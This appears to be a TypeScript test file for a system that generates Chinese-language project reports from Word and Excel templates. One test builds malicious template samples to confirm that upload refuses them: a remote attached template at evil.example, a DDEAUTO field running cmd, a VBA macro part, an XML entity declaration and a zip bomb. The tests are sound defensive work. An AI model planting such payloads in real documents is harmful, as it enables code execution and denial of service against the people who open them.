import PizZip from 'pizzip'
import { v7 } from 'uuid'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { saveProjectLists } from '../projects/schema.ts'
import type { ProjectId } from '../../kernel/ids.ts'
import { openTestHouse, type Caller, type TestHouse } from '../../testing/house.ts'
import { addServices, testService } from '../../testing/ledger.ts'
import { addProjectTo, community } from '../../testing/project.ts'
import { measures } from '../measures/measure-list-rules.ts'
import { frozenIdSchema, frozenSetIdSchema } from '../publishing/figure-record-schema.ts'
import { codeOf } from '../publishing/figure-text-rules.ts'
import { correctFrozen, freezeFigures, listFrozenFigures } from '../publishing/frozen-schema.ts'
import { addTemplate, fetchTemplate, listTemplates, makeReport, removeTemplate } from './report-schema.ts'

let house: TestHouse
let manager: Caller
let projectId: ProjectId

beforeAll(async () => {
  house = await openTestHouse()
  projectId = await addProjectTo(house, [community('旭东社区')])
  manager = await house.signedIn([{ role: 'manager', projectId }])
  await manager.ask(saveProjectLists, {
    id: projectId,
    version: 1,
    targets: [
      { id: v7(), measure: 'activities', wording: '社区活动不少于100场', value: 100, unit: '场' },
      { id: v7(), measure: null, wording: '媒体报道', value: 5, unit: '篇' },
    ],
    budget: [{ id: v7(), name: '宣传费', amountFen: 100_000, capPercent: null }],
  })
})
afterAll(() => house.close())

const input = { report: 'closing', from: '2024-09-01', to: '2025-05-01' } as const
const textOf = (bytes: Buffer, part: string) => new PizZip(bytes).file(part)?.asText() ?? ''
const docx = async (change: (zip: PizZip) => void) => {
  const { bytes } = await manager.fetch(fetchTemplate.name, { format: 'word' })
  const zip = new PizZip(bytes)
  change(zip)
  return Buffer.from(zip.generate({ type: 'uint8array' }))
}
const add = (bytes: Buffer, name = '本单位结项报告') =>
  manager.ask(addTemplate, { id: v7(), name }, { files: [{ name: '模板.docx', bytes }] })
const refusedAdd = (bytes: Buffer) => manager.refused(addTemplate, { id: v7(), name: '坏的' }, { files: [{ name: '模板.docx', bytes }] })

test('our templates come filled in with the targets of the contract, as Word and as Excel, the same bytes again', async () => {
  const word = await manager.fetch(makeReport.name, { ...input, projectId, format: 'word' })
  const document = textOf(word.bytes, 'word/document.xml')
  expect(document).toContain('社区活动不少于100场')
  expect(document).toContain('结项报告')
  expect(document).not.toMatch(/\{[#/]?[\u4e00-\u9fff]/)
  expect((await manager.fetch(makeReport.name, { ...input, projectId, format: 'word' })).bytes.equals(word.bytes)).toBe(true)
  const excel = await manager.fetch(makeReport.name, { ...input, projectId, format: 'excel' })
  expect(textOf(excel.bytes, 'xl/sharedStrings.xml')).toContain('媒体报道')
  expect((await manager.fetch(makeReport.name, { ...input, projectId, format: 'excel' })).bytes.equals(excel.bytes)).toBe(true)
})

test('our own templates pass the check that others must pass', async () => {
  for (const format of ['word', 'excel'] as const) {
    const { bytes } = await manager.fetch(fetchTemplate.name, { format })
    expect((await add(bytes)).faults).toEqual([])
  }
})

test('a wrong field is named with its place and the one that is meant, and nothing is kept', async () => {
  const before = (await manager.ask(listTemplates, {})).templates.length
  const bytes = await docx((zip) =>
    zip.file(
      'word/document.xml',
      textOf(Buffer.from(zip.generate({ type: 'uint8array' })), 'word/document.xml')
        .replace('{承接机构}', '{承办机构}')
        .replace('{完成率}', '{完成百分比}'),
    ),
  )
  const { added, faults } = await add(bytes)
  expect(added).toBe(false)
  expect(faults[0]).toMatchObject({ place: { zh: '第3段' }, field: '{承办机构}', why: { zh: '没有这个字段，是不是“承接机构”？' } })
  expect(faults[1]).toMatchObject({ place: { zh: '第1个表第2行第6列' }, field: '{完成百分比}' })
  expect((await manager.ask(listTemplates, {})).templates).toHaveLength(before)
})

test('an agency’s own template is used until it is put out of use', async () => {
  const id = v7()
  const bytes = await docx((zip) =>
    zip.file('word/document.xml', (zip.file('word/document.xml')?.asText() ?? '').replace('承接机构：', '本机构专用：')),
  )
  await manager.ask(addTemplate, { id, name: '专用' }, { files: [{ name: '专用.docx', bytes }] })
  const made = await manager.fetch(makeReport.name, { ...input, projectId, format: 'word', templateId: id })
  expect(textOf(made.bytes, 'word/document.xml')).toContain('本机构专用')
  expect((await manager.refused(makeReport, { ...input, projectId, format: 'excel', templateId: id })).code).toBe('template.otherFormat')
  await manager.ask(removeTemplate, { id, reason: '换新版' })
  expect((await manager.refused(makeReport, { ...input, projectId, format: 'word', templateId: id })).status).toBe(404)
})

test('a mid-term report prints what was frozen for it: value, rule, day, code, and after a correction what it said before', async () => {
  const setId = frozenSetIdSchema.parse(v7())
  await manager.ask(freezeFigures, { id: setId, projectId, purpose: 'midterm', title: '中期数字', measures: ['activities'], by: [] })
  const midterm = { ...input, report: 'midterm', projectId, format: 'word' } as const
  const documentOf = async (templateId?: string) =>
    textOf(
      (await manager.fetch(makeReport.name, { ...midterm, ...(templateId === undefined ? {} : { templateId }) })).bytes,
      'word/document.xml',
    )
  const [frozen] = (await manager.ask(listFrozenFigures, { setId, limit: 10 })).rows
  if (frozen === undefined) throw new Error('Nothing was frozen.')
  const { record, hash } = frozen
  const name = measures.activities.name.zh
  const before = await documentOf()
  expect(before).toContain(codeOf(hash))
  expect(before).toContain(measures.activities.rule.zh)
  expect(before).toContain('本报告有1个定稿数字')
  expect(before).not.toContain('原为')
  await house.write((tx) => addServices(tx, house.tenantId, projectId, [testService('activity', '2024-10-08', {})]))
  expect(await documentOf()).toContain('其中1个与现在的记录不同')
  await manager.ask(correctFrozen, {
    id: record.id,
    newId: frozenIdSchema.parse(v7()),
    setId: frozenSetIdSchema.parse(v7()),
    reason: 'late',
    note: '补录一场活动',
  })
  const after = await documentOf()
  expect(after).toMatch(/原为0（\d{4}-\d\d-\d\d定稿）：补录一场活动/)

  const bytes = await docx((zip) =>
    zip.file(
      'word/document.xml',
      (zip.file('word/document.xml')?.asText() ?? '').replace('承接机构：', `{定稿·${name}}场，核验码{核验码·${name}}，{更正·${name}}。`),
    ),
  )
  const own = v7()
  expect(await manager.ask(addTemplate, { id: own, name: '写明定稿' }, { files: [{ name: '定稿.docx', bytes }] })).toMatchObject({
    faults: [],
  })
  expect(await documentOf(own)).toMatch(/1场，核验码[0-9A-F]{4}(-[0-9A-F]{4}){3}，原为0/)
  const wrong = await docx((zip) =>
    zip.file('word/document.xml', (zip.file('word/document.xml')?.asText() ?? '').replace('承接机构：', '{定稿·社区活动次}')),
  )
  expect((await add(wrong)).faults[0]).toMatchObject({ place: { zh: '第3段' }, why: { zh: `没有这个字段，是不是“定稿·${name}”？` } })
})

test('a template that acts, or is no template, is refused in words', async () => {
  const macros = await docx((zip) => zip.file('word/vbaProject.bin', 'x'))
  const linked = await docx((zip) =>
    zip.file(
      'word/_rels/settings.xml.rels',
      '<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/a.dotm" TargetMode="External"/></Relationships>',
    ),
  )
  const field = await docx((zip) =>
    zip.file('word/header9.xml', '<w:hdr xmlns:w="w"><w:p><w:r><w:instrText>DDEAUTO c:\\\\windows cmd</w:instrText></w:r></w:p></w:hdr>'),
  )
  const entity = await docx((zip) => zip.file('word/header8.xml', '<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'))
  for (const bytes of [macros, linked, field, entity]) expect((await refusedAdd(bytes)).code).toBe('template.active')
  const bomb = new PizZip()
  bomb.file('[Content_Types].xml', '<x/>').file('word/document.xml', `<x>${' '.repeat(70_000_000)}</x>`)
  expect((await refusedAdd(Buffer.from(bomb.generate({ type: 'uint8array', compression: 'DEFLATE' })))).code).toBe('template.tooMuch')
  expect((await refusedAdd(Buffer.from('not a zip'))).code).toBe('template.damaged')
})

test('a month’s report is of that month, and one outside the project is refused beside its field', async () => {
  const refused = await manager.refused(makeReport, {
    ...input,
    projectId,
    report: 'monthly',
    from: '2023-01-01',
    to: '2023-01-31',
    format: 'word',
  })
  expect(refused.errors?.[0]?.field).toBe('from')
})
